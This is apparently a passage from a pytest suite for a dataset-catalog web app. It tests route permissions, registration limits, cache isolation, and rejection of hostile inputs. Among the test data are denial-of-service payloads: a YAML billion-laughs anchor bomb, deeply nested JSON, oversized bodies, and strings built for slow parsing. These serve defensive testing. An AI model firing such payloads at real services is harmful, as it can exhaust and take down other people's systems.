"""What each route takes; ``review`` of a contribution that is somebody else's. A route that is not here fails."""
ROLES = (None, *people.ROLES)


def allowed(role: str | None, needs: str) -> bool:
    if needs == OWN:
        return False  # here it is always somebody else's
    return needs == PUBLIC or (role is not None and (needs == SOMEBODY or role in people.MAY[needs]))


def call(site: Site, role: str | None, route: Route, number: int, action: str = "accept") -> Any:
    """Do what the route is for, as this role, with a form or a body that is right."""
    slug = {"/artifacts/{slug}": "x", "/works/{slug}": "w"}.get(route.path, "a")
    path = route.at(slug=slug, number=number, action=action.replace(" ", "-"))
    if route.api:
        bodies = {"/api/v1/check": {"names": ["a"]},
                  "/api/v1/contributions": {"title": "t", "changes": [
                      {"kind": "dataset", "slug": f"n{number}", "record": dataset(f"n{number}").plain()}]},
                  "/api/v1/contributions/{number}": {"title": "t", "changes": [
                      {"kind": "dataset", "slug": f"r{number}", "record": dataset(f"r{number}").plain()}]},
                  "/api/v1/{kind}/{slug}": dataset("a", name=f"A {number}").plain(),
                  "/api/v1/contributions/{number}/{action}": {"reason": "spam", "note": "n"}}  # fmt: skip
        body = None if route.safe else bodies[route.path]
        return site.client().request(route.method, path, json=body, headers={"if-match": '"1"', **site.token(role)})
    client = site.client(role)
    if route.safe:
        return client.get(path)
    form = fields_of(route) | {"number": str(number), "action": action if "number" in route.path else "preview"}
    form |= {"action": "add", "name": f"new {number}", "role": "reader"} if route.path == "/people" else {}
    form |= {"action": "submit", "title": f"T {number}"} if route.path in ("/submit",) else {}
    form |= {"text": f"kind: dataset\nslug: a\nname: A {number}\n"} if "edit" in route.path else {}
    form["csrf"] = client.csrf if role else csrf_of(client.get("/sign-in").text)  # type: ignore[attr-defined]
    return client.request(route.method, path, data=form)


def refused(answer: Any, role: str | None, route: Route) -> bool:
    if role is None and not route.api:
        return answer.status_code == 303 and answer.headers["location"].startswith("/sign-in?then=")
    return answer.status_code == (401 if role is None else 403)


def test_the_table_of_what_routes_need_is_of_all_routes_and_of_all_that_may_be_done(
    db: Database, staff: dict[str, Person]
) -> None:
    there = {(route.method, route.path) for route in routes(opened(db, staff, registration=True).app)}
    assert there == set(NEEDS)
    by_command_line = {"withdraw", "retire", "release", "restore", "screen"}
    assert set(people.MAY) == ({*NEEDS.values()} - {PUBLIC, SOMEBODY, OWN}) | by_command_line


@pytest.mark.parametrize("role", ROLES)
def test_each_role_may_do_on_each_route_what_the_table_says_and_nothing_else(site: Site, role: str | None) -> None:
    with site.db.writing() as connection:
        freezing.freeze(connection, site.staff["chief"], "v2026.01", "")
        author = people.add(connection, "another author", "contributor")
    wrong = []
    for n, route in enumerate(routes(site.app)):
        needs = NEEDS[(route.method, route.path)]
        actions = ("accept", "reject", "request changes") if needs == "review" and not route.safe else ("accept",)
        for k, action in enumerate(actions):
            with site.db.writing() as connection:
                number = workflow.propose(
                    connection, author, "t", workflow.putting(connection, [dataset(f"m{n}-{k}-{role or 'none'}")])
                )
            before = state(site.db)
            answer = call(site, role, route, number, action)
            if not allowed(role, needs):
                right = refused(answer, role, route) and state(site.db) == before
            elif route.safe or needs == PUBLIC:
                right = answer.status_code in (200, 303, 401) and not refused(answer, "x", route)
                right = right and (answer.status_code == 200 or not route.safe)
            else:
                right = answer.status_code in (200, 201, 202, 303) and not str(
                    answer.headers.get("location")
                ).startswith("/sign-in")
                right = right and (state(site.db) != before or route.path in ("/paste", "/submit"))
            if not right:
                wrong.append((route.method, route.path, action, needs, answer.status_code, answer.text[-300:]))
    assert wrong == []


@pytest.mark.parametrize("role", people.ROLES)
def test_nobody_decides_or_reads_what_is_not_theirs_and_everybody_takes_back_their_own(site: Site, role: str) -> None:
    theirs, person = site.propose("chief", dataset("c")), site.staff[role]
    page = Route("POST", "/contributions/{number}")
    interface = Route("POST", "/api/v1/contributions/{number}/{action}")
    for route in (page, interface):
        assert call(site, role, route, theirs, "withdraw").status_code == 403
    if not person.may("propose"):
        return
    for n, route in enumerate((page, interface)):
        own = site.propose(role, dataset(f"own{n}"))
        for action in ("accept", "reject", "request changes"):
            assert call(site, role, route, own, action).status_code == 403, (role, action)
        assert site.client(role).get(f"/contributions/{own}").status_code == 200
        assert call(site, role, route, own, "withdraw").status_code in (200, 303)
    listed = site.client().get("/api/v1/contributions?state=", headers=site.token(role)).json()
    assert all(one["author"] == person.name for one in listed) or person.may("review")


@pytest.mark.parametrize(("role", "code"), [("reviewer", 403), ("editor", 303), ("admin", 303)])
def test_to_retire_takes_an_editor(site: Site, role: str, code: int) -> None:
    with site.db.writing() as connection:
        number = workflow.propose(connection, site.staff["bot"], "t", [workflow.Change("dataset", "b", 1)])
    client = site.client(role)
    answer = client.post(f"/contributions/{number}", data={"csrf": client.csrf, "action": "accept"})
    assert answer.status_code == code
    assert site.client().get("/datasets/b").status_code == (410 if code == 303 else 200)


def test_nobody_gives_themselves_another_role(site: Site) -> None:
    client = site.client("admin")
    for action, role in (("change", "reader"), ("bar", "admin"), ("change", "king"), ("crown", "admin")):
        form = {"csrf": client.csrf, "action": action, "name": "admin one", "role": role}
        assert client.post("/people", data=form).status_code == 400


def test_whoever_registers_is_a_contributor_whatever_they_send(db: Database, staff: dict[str, Person]) -> None:
    site = opened(db, staff, registration=True)
    client = site.client()
    form = {"csrf": csrf_of(client.get("/sign-in").text), "name": "new", "password": PASSWORD, "role": "admin"}
    assert client.post("/register", data=form).status_code == 303
    with db.reading() as connection:
        assert people.named(connection, "new").role == "contributor"
    for n in range(9):
        other = site.client()
        form = {"csrf": csrf_of(other.get("/sign-in").text), "name": f"flood {n}", "password": PASSWORD}
        last = other.post("/register", data=form).status_code
    assert last == 429
    assert {route.path for route in routes(opened(db, staff).app)}.isdisjoint({"/register"})


# Bombs -------------------------------------------------------------------------------------------------------------


def test_no_body_larger_than_a_megabyte_is_read(site: Site) -> None:
    client = site.client("contributor")
    for path in ("/paste", "/sign-in", "/api/v1/contributions", "/api/v1/check"):
        assert client.post(path, content=b"x" * 1_000_001).status_code == 413
        assert client.post(path, content=b"x", headers={"content-length": "9" * 18}).status_code == 413
        given = 0

        def chunks() -> Iterator[bytes]:
            nonlocal given
            for _ in range(200):
                given += 1
                yield b"a" * 100_000

        kind = "application/json" if "api" in path else "application/x-www-form-urlencoded"
        answer = client.post(path, content=chunks(), headers={"content-type": kind, **site.token("contributor")})
        assert answer.status_code in (400, 413)


def test_a_body_that_grows_too_large_is_refused_as_such(site: Site) -> None:
    answer = site.client().post(
        "/api/v1/check", content=(b"a" * 100_000 for _ in range(20)), headers={"content-type": "application/json"}
    )
    assert answer.status_code == 413


def test_a_length_of_thousands_of_digits_is_refused(site: Site) -> None:
    answer = site.client(raises=False).post("/api/v1/check", content=b"{}", headers={"content-length": "9" * 5_000})
    assert answer.status_code == 413


def seconds(function: Callable[[], object]) -> float:
    """Return the processor's seconds that it took; refusing is as good as reading."""
    start = time.process_time()
    with suppress(DataError, UsageError):
        function()
    return time.process_time() - start


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000, b'{"a":' * 100_000, b'{"title": "t", "changes": ' + b"[" * 100_000,
        b'{"title": "t", "note": ' + b"9" * 5_000 + b"}", b'{"title": "t", "note": 1e999}', b"\xff\xfe", b"", b"null",
        b'{"title": NaN}', b'"' + b"\\u0000" * 1_000 + b'"', b'{"title": "t", "changes": [' + b"{}," * 99_999 + b"{}]}",
        json.dumps({"title": "t", "changes": [{"kind": "dataset", "slug": f"s{n}"} for n in range(501)]}).encode(),
        b'{"title": "\\ud800", "changes": []}', b'{"\\ud800": 1}',
    ],
)  # fmt: skip
def test_a_hostile_json_is_refused_in_words(site: Site, body: bytes) -> None:
    headers = {"content-type": "application/json", **site.token("contributor")}
    for path in ("/api/v1/contributions", "/api/v1/check", "/api/v1/contributions/1/accept"):
        answer = site.client().post(path, content=body, headers=headers)
        assert answer.status_code in (400, 422), path
        assert answer.headers["content-type"] == "application/problem+json"
        assert len(answer.content) < 5_000
        answer.json()
    answer = site.client().put("/api/v1/datasets/a", content=body, headers={**headers, "if-match": '"1"'})
    assert answer.status_code in (400, 422)


def test_half_a_character_is_refused(site: Site) -> None:
    answer = site.client(raises=False).post(
        "/api/v1/check", content=b'{"names": ["\\ud800"]}', headers={"content-type": "application/json"}
    )
    assert answer.status_code in (200, 400, 422)


def deep_record() -> dict[str, Any]:
    run: Any = 1
    for _ in range(400):
        run = {"a": run}
    return artifact("deep", "a").plain() | {"run": run}


def test_a_deep_record_is_refused_or_kept_but_breaks_nothing(site: Site) -> None:
    change = {"kind": "artifact", "slug": "deep", "record": deep_record()}
    answer = site.client().post("/api/v1/contributions", json={"title": "t", "changes": [change]},
                                headers=site.token("contributor"))  # fmt: skip
    assert answer.status_code == 422


LAUGHS = (
    "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
    "&a [*a]", "[&a x, *a]", "{a: &a x, b: *a}", "a:\n  &a x: 1\n  b: *a", "- &a\n  - x\n- *a", "a: !!str &a x\nb: *a",
    "? &a x\n: *a", "\ufeff&a {a: *a}", "--- &a\n- *a\n", "<<: &a {b: 1}\nc: *a", "a: &\u00e9 x\nb: *\u00e9",
)  # fmt: skip


@pytest.mark.parametrize("text", LAUGHS)
def test_yaml_is_not_unfolded(text: str) -> None:
    with pytest.raises(DataError, match=r"anchors|cannot be read|kind is|nested") as caught:
        submitting.from_text("yaml", text)
    assert len(str(caught.value)) < 500


def test_yaml_is_not_unfolded_by_a_key_in_braces() -> None:
    text = '{kind: dataset, slug: x, name: y, ?&a "' + "A" * 100 + '": [' + "*a," * 100 + "]}"
    with pytest.raises(DataError, match="anchors"):
        submitting.from_text("yaml", text)


def test_a_form_of_a_hundred_thousand_fields_and_a_huge_address_are_refused(site: Site) -> None:
    client = site.client("contributor")
    body = b"&".join(b"a%d=1" % n for n in range(100_000))
    kind = {"content-type": "application/x-www-form-urlencoded"}
    start = time.process_time()
    for path in ("/sign-in", "/paste", "/queue"):
        assert client.post(path, content=body, headers=kind).status_code in (400, 413)
    files = {f"f{n}": ("n", b"x") for n in range(1_200)}
    assert client.post("/paste", files=files).status_code == 400
    long = "a" * 60_000
    for path in ("/search?q=", "/datasets/", "/compare?d=", "/api/v1/search?q=", "/api/v1/datasets?after=", "/?", "/"):
        assert client.get(path + long).status_code in (200, 400, 404, 422)
    assert client.get("/compare?" + "&".join(["d=a"] * 5_000)).status_code == 422
    assert client.get("/api/v1/search?" + "&".join(["q=a"] * 5_000)).status_code == 200
    assert time.process_time() - start < 10


HARD = {
    "spaces": " " * 200_000, "letters": "a" * 200_000, "digits": "9" * 200_000, "file separators": "\x1c" * 20_000,
    "quotes": '"' * 200_000, "open": "[" * 100_000, "braces": "{" * 100_000, "at": "@" * 200_000, "hyphens": "-" * 200_000,
    "and": " and" * 50_000, "backslashes": "\\" * 200_000, "https": "https://" * 25_000, "dots": "1." * 100_000,
    "colons": "a:" * 100_000, "less": "<" * 200_000, "words": "a b " * 50_000, "~ ": "~" + " " * 200_000 + "x",
    "amp": "&" * 200_000, "doi": "10.1234/" * 25_000, "minus": "-\"" * 100_000, "accents": "e\u0301" * 100_000,
}  # fmt: skip
_TAKEN: dict[str, Callable[[str], object]] = {
    "grammar": lambda text: grammar.parse(text[:400]),
    "name": lambda text: dataset("d", name=text[:500]),
    "description": lambda text: dataset("d", description=text[:20_000]),
    "url": lambda text: dataset("d", homepage=("https://example.org/" + text)[:2_000]),
    "doi": lambda text: work("w", doi=("10.1234/" + text)[:300]),
    "arxiv": lambda text: work("w", arxiv=text),
    "day": lambda text: work("w", retracted=text),
    "slug": lambda text: work("w", openalex=text, pmid=text),
    "fact": lambda text: dataset("d", facts=[{"field": "f", "value": text, "url": "https://example.org/"}]),
    "markdown": lambda text: markdown(text[:20_000]),
    "ris": lambda text: ris.read(f"TY  - JOUR\nID  - a\nTI  - a\nPY  - {text}\nAN  - arxiv{text}\nER  - \n"),
    "ris, bare": ris.read,
    "csv": table.read_text,
    "croissant": lambda text: croissant.read_text(json.dumps({"@type": "sc:Dataset", "name": "a" + text,
                                                              "license": text, "sameAs": text, "keywords": text})),
    "yaml": lambda text: submitting.from_text("yaml", f"kind: dataset\nslug: a\nname: '{text}'\n"),
}  # fmt: skip


@pytest.mark.parametrize("reader", _TAKEN)
def test_no_text_keeps_a_reader_busy(reader: str) -> None:
    slow = {name: round(taken, 2) for name, text in HARD.items()
            if (taken := min(seconds(lambda text=text: _TAKEN[reader](text)) for _ in range(1))) > 1.0}  # fmt: skip
    assert slow == {}


SLOW = {
    "authors with spaces": lambda n: bibtex.read("@a{x,title={t},author={A" + " " * n + "B}}"),
    "an accent with spaces": lambda n: bibtex.read("@a{x,title={t \\'" + " " * n + "1}}"),
    "one key many times": lambda n: bibtex.read("@a{x,title=1}" * (n // 13)),
    "one RIS key many times": lambda n: ris.read("TY  - \nTI  - a\nER  - \n" * (n // 20)),
    "a claim of separators": lambda n: quantities.range_of("\x1c" * n),
}  # fmt: skip


@pytest.mark.parametrize("what", SLOW)
def test_what_takes_twice_as_long_a_text_does_not_take_four_times_as_long(what: str) -> None:
    n = 2_000 if "accent" in what or "claim" in what else 10_000
    small = min(seconds(lambda: SLOW[what](n)) for _ in range(3))
    large = min(seconds(lambda: SLOW[what](4 * n)) for _ in range(2))
    assert large < max(8 * small, 0.1)


def test_a_record_of_many_facts_is_put_in_time(site: Site) -> None:
    facts = [{"field": f"f{n}", "value": n, "url": "https://example.org/"} for n in range(2_500)]
    record = dataset("many", facts=facts)
    assert seconds(lambda: publish(site.db, site.staff["bot"], site.staff["reviewer"], record)) < 1.0


NUMBERS = (10**400, -(10**400), 2**63, -(2**63), 1e308, -1e308, 5e-324, 0)


def test_a_huge_number_is_refused_or_shown(site: Site) -> None:
    for value, n in itertools.product(NUMBERS, (None, 0, 2**31, 2**63, 10**30)):
        fact = {"field": "images", "value": value, "url": "https://example.org/"}
        facts = [fact | ({} if n is None else {"n": n}), fact | {"value": 3}]
        try:
            publish(site.db, site.staff["bot"], site.staff["reviewer"], dataset("huge", facts=facts))
        except (DataError, UsageError):
            continue
        for path in ("/datasets/huge", "/compare?d=huge&d=a", "/api/v1/datasets/huge", "/datasets/huge/croissant.json"):
            assert site.client().get(path).status_code == 200


@pytest.mark.parametrize("more", [{"year": "9999"}, {"year": "20"}, {"year": "\u00b2"}, {"authors": "a\u202eb"}])
def test_the_form_for_a_finding_says_what_is_wrong_with_its_source(site: Site, more: dict[str, str]) -> None:
    client = site.client("contributor", raises=False)
    form = {"csrf": client.csrf, "action": "preview", "dataset": "a", "finding": "bias|sex", "title": "T",
            "summary": "S", "work_title": "W", **more}  # fmt: skip
    assert client.post("/submit", data=form).status_code in (200, 422)


@pytest.mark.parametrize(
    ("form", "text"),
    [
        ("csv", "kind,slug,name,year\ndataset,a,b,\u00b2\n"),
        ("csv", "kind,slug,name,images,source\ndataset,a,b,\u00b2,https://example.org\n"),
        ("csv", "kind,slug,name,images,source\ndataset,a,b," + "9" * 5_000 + ",https://example.org\n"),
        ("yaml", "kind: " + "1:" * 20_000 + "1\n"),
    ],
)
def test_a_strange_number_in_a_pasted_file_is_said_in_words(site: Site, form: str, text: str) -> None:
    client = site.client("contributor", raises=False)
    answer = client.post("/paste", data={"csrf": client.csrf, "form": form, "text": text, "action": "preview"})
    assert answer.status_code in (200, 422)


def test_random_bytes_in_any_format_are_refused_in_words(site: Site) -> None:
    chosen = random.Random(20261126)
    pieces = [
        "@article{a,",
        "title={",
        "}",
        "TY  - JOUR",
        "\nER  - \n",
        "TI  - ",
        "kind: dataset",
        "\n",
        "- ",
        "{",
        "[",
        '"',
        "'",
        "\\",
        "&a",
        "*a",
        "!!",
        "? ",
        ": ",
        ",",
        "kind,slug,name\n",
        '{"@type": "sc:Dataset",',
        "\x00",
        "\ud7ff",
        "\U0010ffff",
        "\u202e",
        "é",
        "\t",
        "\r",
        "1e999",
        "%",
        "#",
        "|",
        ">",
        "@string{",
        " # ",
        "~",
    ]
    for _ in range(1_500):
        text = "".join(chosen.choice(pieces) for _ in range(chosen.randint(1, 30)))
        for form in submitting.FORMATS:
            try:
                submitting.from_text(form, text)
            except (DataError, UsageError) as error:
                assert len(str(error)) < 1_000
    with pytest.raises(UsageError):
        submitting.from_text("xml", "x")


# The cache ---------------------------------------------------------------------------------------------------------


def test_nobody_is_served_what_was_made_for_another(site: Site) -> None:
    paths = ["/", "/datasets/a", "/search", "/timeline", "/releases", "/words", "/api", "/method"]
    for path in paths:
        one, two = site.client("admin").get(path), site.client("reviewer").get(path)
        assert "admin one (admin)" in one.text
        assert "reviewer one (reviewer)" in two.text
        assert "private" in one.headers["cache-control"]
        anybody = site.client().get(path)
        assert "sign-out" not in anybody.text
        assert "csrf" not in anybody.text
        assert "set-cookie" not in anybody.headers
        assert "admin one (admin)" in site.client("admin").get(path).text
    for cookie in ("session =x", "a=b;session=x", "session=", "SESSION=x", 'session="x"', "xsession=1"):
        assert "sign-out" not in site.client().get("/", headers={"cookie": cookie}).text


def test_a_session_is_known_however_the_cookie_is_written(site: Site) -> None:
    """What the cache takes for an anonymous request the page must take for one too, or the other way round."""
    secret = site.client("admin").cookies[security.COOKIE]
    anybody = site.client()
    anybody.get("/")
    for cookie in (f"a=b; session={secret}", f"session={secret}; a=b", f"a=b;session={secret}", f"session ={secret}"):
        answer = site.client().get("/", headers={"cookie": cookie})
        assert ("admin one" in answer.text) == ("private" in answer.headers["cache-control"]), cookie
        assert "admin one" not in anybody.get("/").text


def test_an_etag_holds_while_nothing_changes_and_only_for_its_page(site: Site) -> None:
    client = site.client()
    tags = {path: client.get(path).headers["etag"] for path in ("/", "/search", "/datasets/a", "/datasets/b")}
    assert len(set(tags.values())) == len(tags)
    for path, tag in tags.items():
        for said in (tag, f"W/{tag}", f'"x", {tag}'):
            answer = client.get(path, headers={"if-none-match": said})
            assert (answer.status_code, answer.content) == (304, b"")
            assert answer.headers["etag"] == tag
            assert "content-length" not in answer.headers or answer.headers["content-length"] == "0"
        assert client.get(path, headers={"if-none-match": '"x"'}).status_code == 200
    publish(site.db, site.staff["bot"], site.staff["reviewer"], dataset("a", name="Another"))
    for path in ("/datasets/a", "/search"):
        answer = client.get(path, headers={"if-none-match": tags[path]})
        assert answer.status_code == 200
        assert "Another" in answer.text


def test_what_another_process_publishes_is_seen_at_once(site: Site) -> None:
    client = site.client()
    paths = ("/datasets/a", "/api/v1/datasets/a", "/search?q=a", "/findings.atom")
    for n in range(5):
        before = {path: client.get(path).text for path in paths}
        with closing(database.connect(str(site.db.engine.url.database))) as other:
            publish(other, site.staff["bot"], site.staff["reviewer"], dataset("a", name=f"Name {n}"),
                    artifact("x", "a", title=f"Title {n}"))  # fmt: skip
        after = {path: client.get(path).text for path in paths}
        assert all(after[path] != before[path] for path in paths)
        assert f"Name {n}" in after["/datasets/a"]


def test_a_release_is_seen_at_once(site: Site) -> None:
    client = site.client()
    client.get("/releases")
    with site.db.writing() as connection:
        freezing.freeze(connection, site.staff["editor"], "v2026.01", "")
    assert "v2026.01" in client.get("/releases").text


def test_only_good_public_answers_are_kept(site: Site) -> None:
    client = site.client()
    for path in ("/datasets/new", "/api/v1/datasets/new"):
        assert client.get(path).status_code == 404
    publish(site.db, site.staff["bot"], site.staff["reviewer"], dataset("new"))
    for path in ("/datasets/new", "/api/v1/datasets/new"):
        assert client.get(path).status_code == 200
    assert "etag" not in client.get("/api/v1/health").headers
    assert client.get("/sign-in").headers["cache-control"] == "no-store"
    html = client.get("/datasets/a", headers={"accept": "text/html"})
    again = client.get("/datasets/a", headers={"accept": "application/json"})
    assert html.headers["content-type"] == again.headers["content-type"]


def test_the_cache_keeps_no_more_than_a_few_hundred_megabytes() -> None:
    assert cache.MOST * cache.LARGEST <= 512_000_000 or hasattr(cache, "BYTES")
